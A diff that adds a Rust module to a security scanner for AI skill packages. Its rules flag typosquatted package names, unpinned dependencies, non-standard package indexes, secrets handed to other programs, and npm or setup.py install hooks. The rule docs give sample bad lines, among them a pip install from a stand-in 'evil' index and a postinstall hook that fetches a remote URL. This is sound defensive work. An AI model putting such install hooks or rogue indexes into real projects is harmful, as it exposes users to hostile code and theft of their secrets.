@@ -1,0 +1,539 @@
+//! What a skill brings along from others.
+
+mod sources;
+
+use savoir_skill::Span;
+
+use crate::{
+    Confidence, Severity,
+    act::{Act, Code},
+    context::{Context, Told},
+    host::{Standing, standing},
+    piece::{Piece, Role},
+    rule::rule,
+};
+
+/// Packages that many people install, and that others imitate.
+const PYPI: &[&str] = &[
+    "requests",
+    "numpy",
+    "pandas",
+    "urllib3",
+    "setuptools",
+    "python-dateutil",
+    "pyyaml",
+    "cryptography",
+    "certifi",
+    "boto3",
+    "botocore",
+    "flask",
+    "django",
+    "fastapi",
+    "pydantic",
+    "scipy",
+    "matplotlib",
+    "pillow",
+    "scikit-learn",
+    "tensorflow",
+    "torch",
+    "transformers",
+    "openai",
+    "anthropic",
+    "langchain",
+    "beautifulsoup4",
+    "selenium",
+    "lxml",
+    "sqlalchemy",
+    "psycopg2",
+    "redis",
+    "celery",
+    "pytest",
+    "playwright",
+    "httpx",
+    "aiohttp",
+    "paramiko",
+    "colorama",
+    "termcolor",
+    "jellyfish",
+    "pycryptodome",
+    "discord",
+    "telethon",
+    "web3",
+    "tqdm",
+    "click",
+    "rich",
+    "typer",
+    "jinja2",
+    "markdown",
+    "openpyxl",
+    "python-docx",
+    "python-pptx",
+    "pypdf",
+    "pdfplumber",
+    "reportlab",
+    "streamlit",
+    "gradio",
+    "uvicorn",
+    "gunicorn",
+    "websockets",
+    "protobuf",
+    "grpcio",
+    "tokenizers",
+    "huggingface-hub",
+    "opencv-python",
+];
+const NPM: &[&str] = &[
+    "react",
+    "react-dom",
+    "lodash",
+    "express",
+    "axios",
+    "chalk",
+    "commander",
+    "typescript",
+    "webpack",
+    "eslint",
+    "prettier",
+    "puppeteer",
+    "playwright",
+    "dotenv",
+    "mongoose",
+    "moment",
+    "uuid",
+    "cross-env",
+    "node-fetch",
+    "discord.js",
+    "ethers",
+    "web3",
+    "electron",
+    "nodemon",
+    "rimraf",
+    "socket.io",
+    "jsonwebtoken",
+    "bcrypt",
+    "next",
+    "tailwindcss",
+    "postcss",
+    "esbuild",
+    "rollup",
+    "vite",
+    "vitest",
+    "jest",
+    "mocha",
+    "zod",
+    "cheerio",
+    "openai",
+    "pptxgenjs",
+    "sharp",
+    "docx",
+    "fs-extra",
+    "yargs",
+    "inquirer",
+    "semver",
+    "debug",
+    "glob",
+    "minimist",
+];
+
+/// Real packages whose names are near to those above.
+const REAL: &[&str] = &[
+    "request",
+    "preact",
+    "axioss",
+    "pytest",
+    "pillow",
+    "rich",
+    "chalk",
+    "click",
+    "redis",
+    "jest",
+    "next",
+    "vite",
+    "vitest",
+    "glob",
+    "zod",
+    "docx",
+    "torch",
+    "flask",
+    "quart",
+    "click",
+    "clique",
+    "requests2",
+    "nest",
+    "test",
+    "text",
+    "mocha",
+    "debug",
+    "rest",
+    "web3",
+    "web",
+    "uuid",
+    "uuid6",
+    "httpx",
+    "http",
+    "https",
+    "lodash-es",
+    "bcryptjs",
+    "bcrypt",
+    "reacts",
+    "types",
+    "typer",
+    "tqdm",
+    "pypdf2",
+    "pypdf3",
+    "pypdf",
+    "psycopg",
+    "psycopg2-binary",
+    "pyaml",
+    "scapy",
+    "spacy",
+    "pandas-ta",
+    "polars",
+    "markdown2",
+    "markdownx",
+    "sharp",
+    "yarg",
+    "yargs",
+    "postcss",
+    "expressjs",
+    "expres",
+    "semver",
+    "glob2",
+    "globs",
+    "jinja",
+    "dash",
+    "svelte",
+    "discord.py",
+    "langchain-core",
+    "openapi",
+    "openal",
+    "gradio",
+    "grpc",
+    "ether",
+    "ethers",
+    "web3js",
+    "moments",
+];
+
+rule! {
+    /// The name of a package is nearly that of a well-known one.
+    ///
+    /// ## Why
+    ///
+    /// Attackers publish packages one letter away from what people mean to install.
+    ///
+    /// ## Fix
+    ///
+    /// Check the name; if it is right, pin its version with a hash.
+    ///
+    /// ## Bad
+    ///
+    /// ````text file=requirements.txt
+    /// reqeusts==2.31.0
+    /// ````
+    ///
+    /// ## Good
+    ///
+    /// ````text file=requirements.txt
+    /// requests==2.31.0
+    /// ````
+    TYPOSQUAT = "typosquat", High, run typosquat
+}
+
+fn typosquat(context: &mut Context<'_>) {
+    let judge = |manager: &str, package: &str| {
+        let name = bare_name(package).to_lowercase();
+        let known = if manager == "npm" { NPM } else { PYPI };
+        let meant = imitated(&name, known)?;
+        let message = format!("`{name}` is nearly `{meant}`");
+        Some(Told::new(Severity::High, Confidence::Medium, message))
+    };
+    context.each_act(&TYPOSQUAT, |_, act, _| match act {
+        Act::Installs { manager, package } => judge(manager, package),
+        _ => None,
+    });
+    context.each_piece(&TYPOSQUAT, |piece| {
+        let listed = listed(piece).into_iter();
+        listed
+            .filter_map(|(manager, package, span)| Some((span, judge(manager, &package)?)))
+            .collect()
+    });
+}
+
+/// The well-known name that this one imitates.
+fn imitated<'k>(name: &str, known: &[&'k str]) -> Option<&'k str> {
+    let plain = name.replace('_', "-");
+    if name.len() < 5
+        || name.contains(['/', '$', '{'])
+        || known.contains(&plain.as_str())
+        || REAL.contains(&name)
+    {
+        return None;
+    }
+    known.iter().copied().find(|popular| {
+        let near = strsim::osa_distance(name, popular) == 1 && popular.len() >= 5;
+        let confusable = name.replace('1', "l").replace('0', "o") == **popular;
+        near || confusable
+    })
+}
+
+/// A package without its version and extras.
+fn bare_name(package: &str) -> &str {
+    let scoped = package.strip_prefix('@').map_or(0, |_| 1);
+    let end = package[scoped..]
+        .find(['=', '<', '>', '~', '!', '[', ';', '@', ' '])
+        .map_or(package.len(), |end| end + scoped);
+    package[..end].trim()
+}
+
+/// Packages that a file lists.
+fn listed(piece: &Piece<'_>) -> Vec<(&'static str, String, Span)> {
+    if piece.depth > 0 && piece.cloak.is_none() {
+        return Vec::new();
+    }
+    let name = piece.path.rsplit(['/', '!']).next().unwrap_or_default();
+    if name.starts_with("requirements") && crate::gather::ending(name) == "txt" {
+        let mut at = 0;
+        let mut found = Vec::new();
+        for line in piece.text.split_inclusive('\n') {
+            let package = line.split('#').next().unwrap_or_default().trim();
+            if !package.is_empty() && !package.starts_with('-') {
+                found.push(("pip", package.to_owned(), Span::new(at, at + line.trim_end().len())));
+            }
+            at += line.len();
+        }
+        return found;
+    }
+    if name != "package.json" {
+        return Vec::new();
+    }
+    let json: serde_json::Value = serde_json::from_str(&piece.text).unwrap_or_default();
+    let mut found = Vec::new();
+    for field in ["dependencies", "devDependencies", "optionalDependencies"] {
+        for (package, version) in
+            json.get(field).and_then(serde_json::Value::as_object).into_iter().flatten()
+        {
+            let at = piece.text.find(&format!("\"{package}\"")).unwrap_or(0);
+            let version = version.as_str().unwrap_or_default();
+            found.push((
+                "npm",
+                format!("{package}@{version}"),
+                Span::new(at, at + package.len() + 2),
+            ));
+        }
+    }
+    found
+}
+
+rule! {
+    /// A dependency has no version.
+    ///
+    /// ## Why
+    ///
+    /// What is installed tomorrow is not what was looked at today.
+    ///
+    /// ## Fix
+    ///
+    /// Write the version: `requests==2.31.0`.
+    ///
+    /// ## Bad
+    ///
+    /// ````text file=requirements.txt
+    /// requests
+    /// ````
+    ///
+    /// ## Good
+    ///
+    /// ````text file=requirements.txt
+    /// requests==2.31.0
+    /// ````
+    UNPINNED_DEPENDENCY = "unpinned-dependency", Low, run unpinned_dependency
+}
+
+fn unpinned_dependency(context: &mut Context<'_>) {
+    context.each_piece(&UNPINNED_DEPENDENCY, |piece| {
+        let listed = listed(piece).into_iter();
+        listed
+            .filter(|(manager, package, _)| match *manager {
+                "pip" => !package.contains("==") && !package.contains(" @ "),
+                _ => {
+                    package.ends_with("@*")
+                        || package.ends_with("@latest")
+                        || package.ends_with('@')
+                }
+            })
+            .map(|(_, package, span)| {
+                let message = format!("`{}` has no version", bare_name(&package));
+                (span, Told::new(Severity::Low, Confidence::High, message))
+            })
+            .collect()
+    });
+    context.each_act(&UNPINNED_DEPENDENCY, |piece, act, _| {
+        let Act::Installs { package, .. } = act else { return None };
+        let remote = package.starts_with("git+") || package.starts_with("http");
+        (remote && piece.role == Role::Script).then(|| {
+            Told::new(
+                Severity::Medium,
+                Confidence::High,
+                format!("`{package}` is installed from wherever it is today"),
+            )
+        })
+    });
+}
+
+rule! {
+    /// Packages are taken from an index that is not the usual one.
+    ///
+    /// ## Why
+    ///
+    /// Whoever has the index decides what every package in it does.
+    ///
+    /// ## Fix
+    ///
+    /// Use the index of the language.
+    ///
+    /// ## Bad
+    ///
+    /// ````bash file=scripts/setup.sh
+    /// pip install --extra-index-url http://pkgs.evil.top/simple helper
+    /// ````
+    ///
+    /// ## Good
+    ///
+    /// ````bash file=scripts/setup.sh
+    /// pip install --index-url https://download.pytorch.org/whl/cpu torch
+    /// ````
+    FOREIGN_INDEX = "foreign-index", High, run foreign_index
+}
+
+fn foreign_index(context: &mut Context<'_>) {
+    let about = sources::about(context);
+    context.each_act(&FOREIGN_INDEX, |_, act, _| {
+        let Act::Index(url) = act else { return None };
+        if sources::is_usual(url) || sources::is_own(url, &about) {
+            return None;
+        }
+        let severity = match standing(url) {
+            Standing::Local | Standing::Known => return None,
+            Standing::Shady | Standing::Named => Severity::High,
+            Standing::Unknown => Severity::Medium,
+        };
+        Some(Told::new(severity, Confidence::High, format!("packages come from {url}")))
+    });
+    context.each_piece(&FOREIGN_INDEX, |piece| sources::foreign(piece, &about));
+    context.each_piece(&FOREIGN_INDEX, handed_secrets);
+}
+
+/// Secrets that are handed to somebody else's program: an action of a build, an MCP server.
+fn handed_secrets(piece: &Piece<'_>) -> Vec<(Span, Told)> {
+    let text: &str = &piece.text;
+    if piece.depth > 0 {
+        return Vec::new();
+    }
+    let mut found = Vec::new();
+    if let Some(at) = text.find("toJSON(secrets)").or_else(|| text.find("toJson(secrets)")) {
+        let message = "a build hands all its secrets to somebody else's program";
+        found.push((Span::new(at, at + 15), Told::new(Severity::High, Confidence::High, message)));
+    }
+    if text.contains("privileged: true") && (text.contains("- /:/") || text.contains("pid: host")) {
+        let at = text.find("privileged: true").unwrap_or(0);
+        let message = "a container gets the whole machine";
+        found.push((Span::new(at, at + 16), Told::new(Severity::High, Confidence::High, message)));
+    }
+    if text.contains("pull_request_target") && text.contains("permissions: write-all") {
+        let at = text.find("pull_request_target").unwrap_or(0);
+        let message = "a build runs the code of strangers with all rights";
+        found.push((Span::new(at, at + 19), Told::new(Severity::High, Confidence::High, message)));
+    }
+    for (at, _) in text.match_indices("\"env\"").filter(|_| text.contains("mcpServers")) {
+        let end = text[at..].find('}').map_or(text.len(), |end| at + end);
+        let parts = text[at..end].split(|c: char| !c.is_ascii_alphanumeric() && c != '_');
+        let services: std::collections::BTreeSet<&str> =
+            parts.filter_map(crate::service::of).collect();
+        if services.len() > 2 {
+            let message = "one MCP server gets the secrets of several services";
+            found
+                .push((Span::new(at, end), Told::new(Severity::High, Confidence::Medium, message)));
+        }
+    }
+    found
+}
+
+rule! {
+    /// Installing the skill's package runs a command.
+    ///
+    /// ## Why
+    ///
+    /// `npm install` runs it without a question, before anyone has used the skill.
+    ///
+    /// ## Fix
+    ///
+    /// Do it in a script that the user starts.
+    ///
+    /// ## Bad
+    ///
+    /// ````json file=package.json
+    /// {"name": "x", "scripts": {"postinstall": "node -e \"fetch('https://x.example.net/a')\""}}
+    /// ````
+    ///
+    /// ## Good
+    ///
+    /// ````json file=package.json
+    /// {"name": "x", "scripts": {"build": "tsc"}}
+    /// ````
+    INSTALL_SCRIPT = "install-script", High, run install_script
+}
+
+fn install_script(context: &mut Context<'_>) {
+    // Classes in a `setup.py` that run while the package is installed.
+    context.each_act(&INSTALL_SCRIPT, |piece, act, _| {
+        let setup = piece.path.ends_with("setup.py") && piece.whole().contains("cmdclass");
+        let runs = matches!(act, Act::Network { .. } | Act::Executes(_) | Act::Secret(_));
+        (setup && runs && !piece.shown).then(|| {
+            let message = "installing the package runs code that talks to a host or executes more";
+            Told::new(Severity::High, Confidence::Medium, message)
+        })
+    });
+    let fetches = context.parts.iter().any(|part| {
+        (part.piece.path.ends_with("package.json")
+            || part.piece.role == Role::Script && !part.piece.shown)
+            && part.acts.seen.iter().any(|seen| {
+                matches!(
+                    seen.act,
+                    Act::Network { .. } | Act::Executes(Code::Fetched(_) | Code::Decoded)
+                )
+            })
+    });
+    context.each_piece(&INSTALL_SCRIPT, |piece| {
+        if !piece.path.ends_with("package.json") || piece.depth > 0 {
+            return Vec::new();
+        }
+        let json: serde_json::Value = serde_json::from_str(&piece.text).unwrap_or_default();
+        let mut found = Vec::new();
+        for name in ["preinstall", "install", "postinstall", "prepare"] {
+            let Some(command) =
+                json.pointer(&format!("/scripts/{name}")).and_then(serde_json::Value::as_str)
+            else {
+                continue;
+            };
+            let usual = [
+                "husky",
+                "patch-package",
+                "tsc",
+                "npm run build",
+                "prisma generate",
+                "playwright install",
+            ];
+            if usual.iter().any(|usual| command.starts_with(usual))
+                || command.contains("playwright install")
+            {
+                continue;
+            }
+            let severity = if fetches { Severity::High } else { Severity::Medium };
+            let at = piece.text.find(&format!("\"{name}\"")).unwrap_or(0);
+            let told = Told::new(severity, Confidence::High, format!("`{name}` runs `{command}`"));
+            found.push((Span::new(at, at + name.len() + 2), told));
+        }
+        found
+    });
+}
